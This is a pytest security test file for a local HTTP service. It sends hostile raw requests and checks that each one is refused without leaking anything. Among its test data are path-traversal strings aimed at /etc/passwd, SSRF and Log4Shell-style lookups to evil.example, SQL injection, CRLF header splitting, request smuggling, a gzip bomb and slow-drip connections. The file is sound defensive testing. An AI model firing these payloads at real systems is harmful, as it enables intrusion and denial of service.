"""What somebody who means harm may send, as raw bytes: nothing comes of it."""

import asyncio
import contextlib
import gzip
import hashlib
import hmac
import json
import os
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from service.server import access, connection, reading
from service.server.access import HEADERS, digest
from tests.guards import GUARD
from tests.service.server.open_service import ASK, Service, opened

TOKEN = "a-token-of-256-random-bits-perhaps"
DIGESTS = (digest("another"), digest(TOKEN))
GUARDED: dict[str, Any] = {"serve_token_sha256": DIGESTS}


async def raw(service: Service, content: bytes, within_s: float = 10.0) -> bytes:
    """Everything that is answered to some bytes until the connection is closed."""
    address = urlsplit(service.url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    try:
        writer.write(content)
        async with asyncio.timeout(within_s):
            return await reader.read()
    except ConnectionError:
        return b""
    finally:
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()


def request(
    line: str | bytes, *headers: str | bytes, body: bytes = b"", host: str = "localhost"
) -> bytes:
    """A request that asks for the connection to be closed."""
    first = line if isinstance(line, bytes) else line.encode()
    more = [each if isinstance(each, bytes) else each.encode() for each in headers]
    length = [f"Content-Length: {len(body)}".encode()] if body else []
    lines = [first + b" HTTP/1.1", f"Host: {host}".encode(), b"Connection: close", *length, *more]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def post(body: bytes, *headers: str | bytes, path: str = "/v1/runs") -> bytes:
    return request(f"POST {path}", "Content-Type: application/json", *headers, body=body)


def status(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.[01] (\d{3}) ", answer)
    assert found, answer[:200]
    return int(found[1])


def problem(answer: bytes) -> dict[str, Any]:
    """The problem of an answer, which has every header that protects."""
    head, _, body = answer.partition(b"\r\n\r\n")
    assert b"Content-Type: application/problem+json" in head, head
    for name, value in HEADERS.items():
        assert f"{name}: {value}".encode() in head, name
    document = json.loads(body)
    assert document["status"] == status(answer)
    assert set(document) >= {"type", "title", "detail"}
    return dict(document)


async def goes_on(service: Service) -> None:
    """The service answers, and nothing was queued."""
    await service.get("/readyz")
    assert (await service.get("/v1/runs"))["runs"] == []


PLANTED = "planted-file-outside"


@pytest.mark.parametrize(
    "path",
    [
        "/v1/runs/../../etc/passwd",
        "/v1/runs/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/v1/runs/..%2F..%2Foutside.txt/trace",
        "/v1/runs/%2e%2e/trace",
        "/v1/runs/..%5c..%5coutside.txt/report",
        "/v1/runs/" + "0" * 31 + "%2f/trace",
        "/v1/runs/" + "0" * 32 + "%00/trace",
        "/v1/runs/" + "0" * 32 + "/..%2f..%2foutside.txt",
        "/v1/runs/" + "0" * 32 + "/trace/../../outside.txt",
        "/v1/runs/" + "%30" * 32 + "/trace",
        "/v1/runs/%ff%fe/trace",
        "/v1/runs/%252e%252e%252foutside.txt/trace",
        "//outside.txt",
        "/outside.txt",
        "/../outside.txt",
        "/service.sqlite",
        "/static/../../outside.txt",
        "/assets/..%2f..%2foutside.txt",
        "http://localhost/../outside.txt",
    ],
)
async def test_no_path_leads_to_a_file_that_is_not_a_runs(tmp_path: Path, path: str) -> None:
    await asyncio.to_thread((tmp_path / "outside.txt").write_text, PLANTED)
    async with opened(tmp_path) as service:
        answer = await raw(service, request(f"GET {path}"))
        assert status(answer) in (400, 404, 405), answer
        assert PLANTED.encode() not in answer
        assert b"root:" not in answer
        problem(answer)
        await goes_on(service)


async def test_no_host_in_a_request_is_asked(tmp_path: Path) -> None:
    away = "http://evil.example:8000/x"
    async with opened(tmp_path) as service:
        for field in ("url", "base_url", "endpoint", "host", "proxy", "model", "out"):
            body = json.dumps({"symbol": "AAPL", field: away}).encode()
            assert status(await raw(service, post(body))) == 422
        for symbol in (away, "AAPL@evil.example", "//evil.example", "evil.example/AAPL", "A?x=y"):
            body = json.dumps({"symbol": symbol}).encode()
            assert status(await raw(service, post(body))) == 422, symbol
        await goes_on(service)
        headers = [f"{name}: evil.example" for name in ("X-Forwarded-Host", "Forwarded", "Referer")]
        headers += [f"Proxy: {away}", "baggage: url=http://evil.example", "tracestate: evil=1"]
        answer = await raw(service, post(json.dumps(ASK).encode(), *headers))
        assert status(answer) == 202
        run = json.loads(answer.partition(b"\r\n\r\n")[2])
        assert (await service.over(run["id"]))["state"] == "done"
        assert b"evil.example" not in answer
        for path in ("http://evil.example/v1/runs", "evil.example:443"):
            method = "GET" if "/" in path else "CONNECT"
            answered = await raw(service, request(f"{method} {path}"))
            assert b"evil.example" not in answered
    assert GUARD.attempts == [], "nothing reached for another host"


@pytest.mark.parametrize(
    ("host", "wanted"),
    [
        ("localhost", 200),
        ("LOCALHOST:8321", 200),
        ("127.0.0.1:1", 200),
        ("[::1]", 200),
        ("[::1]:8321", 200),
        ("192.0.2.7:8321", 200),
        ("known.example", 200),
        ("KNOWN.example:443", 200),
        ("evil.example", 421),
        ("localhost.evil.example", 421),
        ("127.0.0.1.evil.example:8321", 421),
        ("evil.example:127.0.0.1", 421),
        ("known.example.", 421),
        ("localhost@evil.example", 421),
        ("", 421),
    ],
)
async def test_a_page_that_points_its_name_at_us_is_told_nothing(
    tmp_path: Path, host: str, wanted: int
) -> None:
    async with opened(tmp_path, serve_hosts=("Known.example",)) as service:
        for path in ("/v1/runs", "/healthz"):
            answer = await raw(service, request(f"GET {path}", host=host))
            assert status(answer) in (wanted, 400 if wanted == 421 else wanted), answer
            if wanted == 421:
                problem(answer)


async def test_without_a_host_nobody_is_looked_up(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        answer = await raw(service, b"GET /healthz HTTP/1.0\r\n\r\n")
        assert status(answer) == 421
        problem(answer)


@pytest.mark.parametrize(
    ("headers", "wanted"),
    [
        ([], 202),
        (["Origin: http://localhost"], 202),
        (["Origin: http://localhost", "Sec-Fetch-Site: same-origin"], 202),
        (["Sec-Fetch-Site: none"], 202),
        (["Origin: http://evil.example"], 403),
        (["Origin: null"], 403),
        (["Origin: http://localhost.evil.example"], 403),
        (["Origin: http://localhost:1"], 403),
        (["Origin: http://["], 403),
        (["Origin: "], 403),
        (["Sec-Fetch-Site: cross-site"], 403),
        (["Sec-Fetch-Site: same-site"], 403),
        (["Origin: http://localhost", "Sec-Fetch-Site: cross-site"], 403),
    ],
)
async def test_a_page_of_another_origin_changes_nothing(
    tmp_path: Path, headers: list[str], wanted: int
) -> None:
    async with opened(tmp_path) as service:
        answer = await raw(service, post(json.dumps(ASK).encode(), *headers))
        assert status(answer) == wanted, answer
        runs = (await service.get("/v1/runs"))["runs"]
        assert len(runs) == (wanted == 202)
        if wanted == 403:
            problem(answer)


async def test_a_form_of_another_page_is_no_json(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        kinds = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "")
        for kind in (*kinds, "application/jsonp", "text/json"):
            sent = request("POST /v1/runs", f"Content-Type: {kind}", body=json.dumps(ASK).encode())
            assert status(await raw(service, sent)) == 415, kind
        await goes_on(service)


async def test_no_answer_lets_another_origin_read_it(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        for line in ("GET /v1/runs", "OPTIONS /v1/runs", "GET /healthz", "GET /nothing"):
            answer = await raw(
                service,
                request(
                    line,
                    "Origin: http://evil.example",
                    "Access-Control-Request-Method: POST",
                    "Access-Control-Request-Private-Network: true",
                ),
            )
            assert b"access-control-" not in answer.lower(), line


async def test_only_who_shows_a_token_is_let_in(tmp_path: Path) -> None:
    async with opened(tmp_path, **GUARDED) as service:
        paths = ["/v1/runs", "/v1/runs/" + "0" * 32, "/metrics", "/v1/openapi.json", "/nothing"]
        wrong: list[list[str | bytes]] = [
            [],
            ["Authorization: Bearer"],
            ["Authorization: Bearer "],
            [f"Authorization: {TOKEN}"],
            [f"Authorization: Basic {TOKEN}"],
            [f"Authorization: Bearer {TOKEN}x"],
            [f"Authorization: Bearer {TOKEN[:-1]}"],
            [f"Authorization: Bearer {digest(TOKEN)}"],
            [f"Authorization: Bearer {TOKEN.upper()}"],
            [b"Authorization: Bearer \xff\xfe"],
            [f"Cookie: {access.COOKIE}={TOKEN}"],
            [f"Cookie: {access.COOKIE}={digest(TOKEN)}"],
            [b"Cookie: " + access.COOKIE.encode() + b"=\xff"],
            [f"X-Token: {TOKEN}"],
        ]
        for path in paths:
            for headers in wrong:
                answer = await raw(service, request(f"GET {path}", *headers))
                assert status(answer) == 401, (path, headers, answer)
                assert b"WWW-Authenticate: Bearer" in answer
                problem(answer)
            for scheme in ("Bearer", "bearer"):
                authorized = request(f"GET {path}", f"Authorization: {scheme} {TOKEN}")
                assert status(await raw(service, authorized)) in (200, 404)
        answer = await raw(service, request(f"GET /v1/runs?token={TOKEN}"))
        assert status(answer) == 401, "not in an address, which logs keep"
        assert status(await raw(service, request("GET /healthz"))) == 200
        assert status(await raw(service, post(json.dumps(ASK).encode()))) == 401
        assert not (await service.parts.store.runs())


async def test_tokens_are_compared_as_digests_each_of_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    compared: list[tuple[str, str]] = []
    really = hmac.compare_digest

    def compare(offered: str, known: str) -> bool:
        compared.append((offered, known))
        return really(offered, known)

    async with opened(tmp_path, **GUARDED) as service:
        monkeypatch.setattr(hmac, "compare_digest", compare)
        for token in ("wrong", TOKEN, "another"):
            compared.clear()
            await raw(service, request("GET /v1/runs", f"Authorization: Bearer {token}"))
            offered = hashlib.sha256(token.encode()).hexdigest()
            assert compared == [(offered, known) for known in DIGESTS]


async def test_a_guesser_is_slowed_down(tmp_path: Path) -> None:
    limits: dict[str, Any] = {"serve_requests_per_s": 0.01, "serve_burst": 4}
    async with opened(tmp_path, **GUARDED, **limits) as service:
        found = [
            status(await raw(service, request("GET /v1/runs", f"Authorization: Bearer {guess}")))
            for guess in range(8)
        ]
        assert found == [401] * 4 + [429] * 4
        right = request("GET /v1/runs", f"Authorization: Bearer {TOKEN}")
        assert status(await raw(service, right)) == 429


async def test_a_body_that_says_it_is_too_large_is_not_read(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        head = post(b"").replace(b"\r\n\r\n", b"\r\nContent-Length: 9000000000\r\n\r\n")
        answer = await answered_first(service, head)
        assert status(answer) == 413
        assert "send less" in answer.decode()
        await goes_on(service)


async def test_a_body_that_grows_too_large_is_cut_off(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        head = post(b"").replace(b"\r\n\r\n", b"\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"8000\r\n" + b" " * 0x8000 + b"\r\n"
        answer = await answered_first(service, head + chunk * 4)
        assert status(answer) == 413
        await goes_on(service)


async def answered_first(service: Service, content: bytes) -> bytes:
    """What is answered while the request is not yet at its end."""
    address = urlsplit(service.url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    try:
        writer.write(content)
        async with asyncio.timeout(5):
            return await reader.readuntil(b"}")
    finally:
        writer.close()


async def test_a_body_is_asked_for_only_from_who_may_send_it(tmp_path: Path) -> None:
    async with opened(tmp_path, **GUARDED) as service:
        body = json.dumps(ASK).encode()
        length = b"\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(body)
        head = post(b"").replace(b"\r\n\r\n", length)
        answer = await answered_first(service, head)
        assert status(answer) == 401
        known = f"\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode()
        answer = await answered_first(service, head.replace(b"\r\n\r\n", known) + body)
        assert answer.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 202 ")


@pytest.mark.parametrize(
    "start",
    [b"", b"GET /heal", b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-", b"\r\n" * 10],
    ids=["silent", "half a line", "half a header", "empty lines"],
)
async def test_headers_that_never_end_cost_a_connection_for_a_while_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: bytes
) -> None:
    monkeypatch.setattr(connection, "REQUEST_S", 0.6)
    async with opened(tmp_path) as service:
        assert await dripped(service, start) == b""
        again = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
        answer = await dripped(service, again + start)
        assert answer.count(b"HTTP/1.1 200 OK") == 1, "a request before buys no time"
        await goes_on(service)


async def dripped(service: Service, start: bytes) -> bytes:
    """Send a byte every now and then, until the connection is closed."""
    address = urlsplit(service.url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)

    async def drip() -> None:
        with contextlib.suppress(ConnectionError):
            while True:
                await asyncio.sleep(0.05)
                writer.write(b"a" if start and not start.endswith(b"\r\n") else b"")
                await writer.drain()

    writer.write(start)
    dripping = asyncio.create_task(drip())
    try:
        async with asyncio.timeout(10):
            return await reader.read()
    except ConnectionError:
        return b""
    finally:
        dripping.cancel()
        writer.close()


async def test_a_body_that_never_ends_is_not_waited_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "BODY_S", 0.2)
    monkeypatch.setattr(connection, "LINGER_S", 0.2)
    async with opened(tmp_path) as service:
        head = post(b"").replace(b"\r\n\r\n", b"\r\nContent-Length: 1000\r\n\r\n")
        answer = await raw(service, head + b'{"symbol"')
        assert status(answer) == 408
        assert "send it again" in problem(answer)["detail"]
        for line in ("GET /v1/runs", "POST /nothing", f"POST /v1/runs/{'0' * 32}/cancel"):
            sent = request(line).replace(b"\r\n\r\n", b"\r\nContent-Length: 1000\r\n\r\n")
            assert status(await raw(service, sent + b"x")) in (200, 404)
        await goes_on(service)


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "GZIP", "identity, gzip"])
async def test_a_compressed_body_is_not_inflated(tmp_path: Path, encoding: str) -> None:
    bomb = gzip.compress(b'{"symbol": "' + b"A" * 50_000_000 + b'"}', 1)[:60_000]
    async with opened(tmp_path) as service:
        answer = await raw(service, post(bomb, f"Content-Encoding: {encoding}"))
        assert status(answer) == 415
        problem(answer)
        await goes_on(service)


SPLITTERS = ["a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\r\n\r\n<script>", "\r\nX-Evil: 1", "a\x00b"]


@pytest.mark.parametrize("text", SPLITTERS)
async def test_no_text_of_a_request_becomes_a_header_of_an_answer(
    tmp_path: Path, text: str
) -> None:
    async with opened(tmp_path) as service:
        body = json.dumps({"symbol": text}).encode()
        heads = [await raw(service, post(body))]
        for name in ("Idempotency-Key", "Last-Event-ID", "traceparent", "X-Any"):
            heads.append(await raw(service, post(json.dumps(ASK).encode(), f"{name}: {text}")))
        quoted = "".join(f"%{byte:02x}" for byte in text.encode())
        heads.append(await raw(service, request(f"GET /v1/runs?symbol={quoted}")))
        heads.append(await raw(service, request(f"GET /v1/runs/{quoted}")))
        heads.append(await raw(service, request(f"GET /v1/runs/{'0' * 32}/events?after={quoted}")))
        for answer in heads:
            head = answer.partition(b"\r\n\r\n")[0]
            assert b"X-Evil" not in head
            assert b"<script>" not in answer or b"/problem+json" in head
        await service.get("/readyz")


async def test_an_idempotency_key_is_short_and_plain(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        body = json.dumps(ASK).encode()
        for key in (b"", b"k" * 201, b"\xff\xfe", "schlüssel".encode()):
            assert status(await raw(service, post(body, b"Idempotency-Key: " + key))) == 400, key
        await goes_on(service)
        assert status(await raw(service, post(body, b"Idempotency-Key: " + b"k" * 200))) == 202
        for text in ("'; DROP TABLE runs; --", '" OR 1=1', "${jndi:ldap://evil.example}"):
            assert status(await raw(service, post(body, f"Idempotency-Key: {text}"))) == 202
        assert len((await service.get("/v1/runs"))["runs"]) == 4


@pytest.mark.parametrize(
    "sent",
    [
        request("GET /healthz", *(f"X-{number}: x" for number in range(100_000))),
        request("GET /healthz", "X: " + "x" * 1_000_000),
        request("GET /" + "x" * 1_000_000),
        request("GET /healthz?" + "a=1&" * 100_000),
        request("GET /healthz", "no colon"),
        request("GET /healthz", "Content-Length: -1"),
        request("GET /healthz", "Content-Length: 1", "Content-Length: 2"),
        request("POST /v1/runs", "Content-Length: 5", "Transfer-Encoding: chunked"),
        request("GET /healthz", "Transfer-Encoding: chunked, x"),
        request("GET /healthz", b"X: \x00"),
        request(b"GET /\x00\xff"),
        b"GET /healthz HTTP/9.9\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 100,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x00" * 5000,
    ],
    ids=lambda sent: sent[:40].decode(errors="replace").partition("\r")[0],
)
async def test_what_is_no_request_is_a_problem_and_not_repeated(
    tmp_path: Path, sent: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connection, "REQUEST_S", 0.5)
    async with opened(tmp_path) as service:
        answer = await raw(service, sent)
        if answer:
            assert status(answer) in (400, 404, 414, 431), answer[:200]
            assert len(answer) < 2_000, "what was sent is not sent back"
            problem(answer)
        await goes_on(service)


@pytest.mark.parametrize(
    "body",
    [
        b'{"symbol": "A\x00APL"}',
        b'{"symbol": "A\\u0000APL"}',
        b'{"symbol": "\xff\xfe"}',
        b'{"symbol": "\\ud800"}',
        b'\xef\xbb\xbf{"symbol": "AAPL", "x": 1}',
        b'{"symbol": "AAPL", "symbol": 1}',
        b'{"symbol": "AAPL", "date": "\\u0000"}',
        b'{"symbol": "AAPL", "date": "2025-11-14\\n"}',
        b'{"symbol": "AAPL", "debate_rounds": 1e400}',
        b'{"symbol": "AAPL", "debate_rounds": ' + b"9" * 5_000 + b"}",
        b'{"symbol": "AAPL", "agent_budget": NaN}',
        b'{"symbol": "AAPL", "agent_budget": Infinity}',
        b'{"symbol": "AAPL", "analysts": [' + b'"market",' * 5_000 + b'"market"]}',
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b"[" * 60_000,
        b"null",
        b"\x00" * 1_000,
    ],
    ids=lambda body: body[:36].decode(errors="replace"),
)
async def test_json_that_means_harm_is_refused_and_not_repeated(
    tmp_path: Path, body: bytes
) -> None:
    async with opened(tmp_path) as service:
        answer = await raw(service, post(body))
        assert status(answer) == 422, answer[:300]
        assert len(answer) < 3_000
        problem(answer)
        await goes_on(service)


SECRETS = {
    "OPENAI_API_KEY": "planted-openai-0123456789",
    "LANGSMITH_API_KEY": "planted-langsmith-0123456789",
    "FRED_API_KEY": "planted-fred-0123456789",
    "OTEL_EXPORTER_OTLP_HEADERS": "x-api-key=planted-otlp-0123456789",
    "MY_DATABASE_PASSWORD": "planted-database-0123456789",
}


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TRADING_GRAPH_JAEGER_URL", "http://user:planted-jaeger-0123@127.0.0.1:9")


@pytest.mark.usefixtures("secrets")
async def test_no_answer_no_log_and_no_file_has_a_secret(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    async with opened(tmp_path, **GUARDED) as service:
        service.http.headers["Authorization"] = f"Bearer {TOKEN}"
        run = await service.start()
        await service.over(run["id"])
        seen = [json.dumps(await service.events(run["id"]))]
        paths = [*run["links"].values(), "/v1/runs", "/metrics", "/v1/openapi.json", "/healthz"]
        paths += ["/", "/nothing", "/v1/runs?x=" + SECRETS["OPENAI_API_KEY"]]
        for path in paths:
            if path and path.startswith("/"):
                async with service.http.get(path) as answer:
                    seen.append(f"{answer.headers} {await answer.text()}")
        seen.append(json.dumps(run))
        async with service.http.post(
            "/v1/runs", json={"symbol": SECRETS["OPENAI_API_KEY"] + "/"}
        ) as answer:
            seen.append(await answer.text())
    kept = await asyncio.to_thread(everything, tmp_path)
    whole = "\n".join([*seen, *kept, caplog.text])
    assert TOKEN not in whole
    assert "[redacted]" in seen[-1], "a key in the wrong field is not sent back either"
    assert re.findall(r"planted-\w+", whole, re.IGNORECASE) == []


def everything(folder: Path) -> list[str]:
    return [
        path.read_bytes().decode(errors="replace") for path in folder.rglob("*.*") if path.is_file()
    ]


async def test_every_answer_has_the_headers_that_protect(tmp_path: Path) -> None:
    async with opened(tmp_path) as service:
        run = await service.start()
        await service.over(run["id"])
        paths = [path for path in run["links"].values() if path and path.startswith("/")]
        for path in [*paths, "/healthz", "/readyz", "/metrics", "/v1/openapi.json", "/nothing"]:
            async with service.http.get(path) as answer:
                for name in HEADERS:
                    assert name in answer.headers, (path, name)
                assert answer.headers["Server"] == "trading-graph"
                assert "'unsafe-inline'" not in answer.headers["Content-Security-Policy"]


def test_the_guard_hears_what_these_tests_are_about() -> None:
    assert GUARD.active
    assert os.environ.get("HTTP_PROXY") is None
